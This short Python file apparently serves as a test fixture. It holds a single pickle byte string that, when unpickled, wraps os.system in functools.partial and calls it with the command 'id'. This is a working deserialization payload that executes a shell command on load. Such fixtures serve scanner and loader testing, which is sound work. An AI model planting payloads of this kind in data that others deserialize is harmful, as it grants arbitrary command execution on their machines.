"""`functools.partial` around `system`, called."""

PAYLOAD = b"\x80\x04\x8c\tfunctools\x8c\x07partial\x93(\x8c\x02os\x8c\x06system\x93\x8c\x02idtR)R."
